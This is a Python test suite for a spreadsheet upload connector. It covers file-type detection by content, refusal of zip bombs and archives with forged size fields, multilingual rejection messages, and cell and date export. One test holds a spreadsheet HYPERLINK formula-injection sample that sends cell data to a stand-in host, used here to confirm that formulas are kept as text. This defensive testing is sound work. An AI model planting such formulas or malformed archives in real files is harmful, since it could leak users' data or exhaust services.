"""What lies in a file is told from its content, and what we do not take is refused kindly, in three languages."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest

from hub.connectors.packed import MAX_UNPACKED, check_packed
from hub.connectors.report import FileReport
from hub.connectors.source import Source, kind_of
from hub.connectors.trouble import FileProblemsError, no_table
from hub.connectors.unpack import records, word_of
from hub.connectors.workbook import Moment
from hub.texts.file_kinds import INSTEAD
from hub.texts.file_report import LANGUAGES
from tests.examples.workbooks import packed, workbook

BOOK = "xl/workbook.xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def told(raw: bytes) -> tuple[str, str]:
    """Return what is said of a file that is no table of ours."""
    with pytest.raises(FileProblemsError) as caught:
        _judged(raw)
    (one,) = caught.value.problems
    return one.trouble, one.word


def _judged(raw: bytes, most: int = MAX_UNPACKED) -> None:
    if kind_of(Source.of_bytes(raw)) == "packed":
        check_packed(io.BytesIO(raw), most)


@pytest.mark.parametrize(
    ("raw", "word"),
    [
        pytest.param(b"%PDF-1.7 \n", "pdf", id="a PDF"),
        pytest.param(OLE + "EncryptedPackage".encode("utf-16-le"), "locked", id="a workbook behind a password"),
        pytest.param(OLE + "Workbook".encode("utf-16-le"), "old_book", id="an old workbook"),
        pytest.param(OLE, "document", id="an old document"),
        pytest.param(b"\x89PNG\r\n\x1a\n", "picture", id="a picture"),
        pytest.param(b"{\\rtf1", "document", id="a rich text"),
        pytest.param(b"\r\n <!DOCTYPE html><html>", "web_page", id="a web page that calls itself a workbook"),
        pytest.param(b'\xef\xbb\xbf<?xml version="1.0"?>', "xml", id="XML"),
        pytest.param(b'[{"specversion": "1.0"}]', "json", id="JSON"),
        pytest.param(b"\x1f\x8b\x08", "archive", id="a gzip"),
        pytest.param(b"\x7fELF\x02\x01\x01\x00\x00", "unknown", id="a program"),
        pytest.param(packed({"word/document.xml": b"<w/>"}), "document", id="a text document"),
        pytest.param(packed({"META-INF/manifest.xml": b"<m/>"}), "open_document", id="an OpenDocument"),
        pytest.param(packed({"xl/workbook.bin": b"x"}), "old_book", id="a binary workbook"),
        pytest.param(packed({"a.csv": b"a;b"}), "archive", id="a packed folder"),
        pytest.param(packed({BOOK: b"<w/>", "xl/vbaProject.bin": b"x"}), "macros", id="macros"),
        pytest.param(workbook([["a"]])[:200], "damaged", id="half a workbook"),
    ],
)
def test_what_is_no_table_is_named(raw: bytes, word: str) -> None:
    """By its content: no name is asked."""
    assert told(raw) == ("not_a_table", word)


@pytest.mark.parametrize("word", INSTEAD["en"])
def test_every_kind_is_refused_kindly_in_three_languages(word: str) -> None:
    """What it is, what we take, who can help."""
    report = FileReport("mikkeli-koulut", "concern.raised", file=no_table(word).problems)
    texts = [report.text(language) for language in LANGUAGES]
    assert len(set(texts)) == 3
    assert all(
        "XLSX" in text and INSTEAD[language][word] in text for language, text in zip(LANGUAGES, texts, strict=True)
    )
    assert [help in text for help, text in zip(("auttaa", "hjälper", "helps"), texts, strict=True)] == [True] * 3


def test_a_file_that_may_not_be_read_is_told(tmp_path: Path) -> None:
    """It is the file's own trouble, and the others go on."""
    with pytest.raises(FileProblemsError, match="not_readable"):
        kind_of(Source.of_path(tmp_path / "gone.csv"))


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    """A part that would be a hundred times as large."""
    bomb = packed({BOOK: b"<w/>", "xl/worksheets/sheet1.xml": bytes(16 * 1024 * 1024)})
    assert len(bomb) < 50_000
    assert told(bomb) == ("not_a_table", "bomb")


def test_many_parts_that_are_too_much_together_are_refused() -> None:
    """Each alone would pass."""
    many = packed({BOOK: b"<w/>"} | {f"xl/worksheets/sheet{at}.xml": b"x" * 900 for at in range(3)})
    with pytest.raises(FileProblemsError, match="too_large"):
        _judged(many, most=2000)


def test_a_part_that_is_longer_than_it_says_is_refused() -> None:
    """The directory lies about the size: the checksum tells."""
    raw = bytearray(packed({BOOK: b"<w/>", "xl/worksheets/sheet1.xml": b"x" * 5000}))
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        honest = archive.getinfo("xl/worksheets/sheet1.xml").file_size.to_bytes(4, "little")
    at = raw.rindex(honest)
    raw[at : at + 4] = (10).to_bytes(4, "little")
    assert told(bytes(raw)) == ("not_a_table", "damaged")


def test_cells_come_as_the_words_of_an_export() -> None:
    """Whole numbers without a point; a formula's text is text and never worked out; dates keep day and time."""
    evil = '=HYPERLINK("http://example.invalid/?x="&A1)'
    row = [evil, 17, 1.5, date(2026, 11, 24), datetime(2026, 11, 24, 8, 5)]  # noqa: DTZ001 - as a spreadsheet has it
    (found,) = records(io.BytesIO(workbook([row])), None)
    assert [word_of(value) for value in found] == [
        evil, "17", "1.5", ["24.11.2026", "00:00:00"], ["24.11.2026", "08:05:00"],
    ]  # fmt: skip
    assert [word_of(True), word_of(False)] == ["kyllä", "ei"]


@pytest.mark.parametrize(
    ("kind", "midnight", "morning"),
    [
        ("date", "24.11.2026", "24.11.2026"),
        ("datetime", "24.11.2026 00:00:00", "24.11.2026 08:05:00"),
        ("text", "24.11.2026", "24.11.2026 08:05:00"),
    ],
)
def test_a_date_says_what_the_mapping_asks_for(kind: str, midnight: str, morning: str) -> None:
    """A day, a time, or what stands there."""
    asked: dict[str, str] = {"00:00:00": midnight, "08:05:00": morning}
    for time, word in asked.items():
        at = Moment("24.11.2026", time)
        assert {"date": at.said("date"), "datetime": at.said("datetime"), "text": at.said("text")}[kind] == word
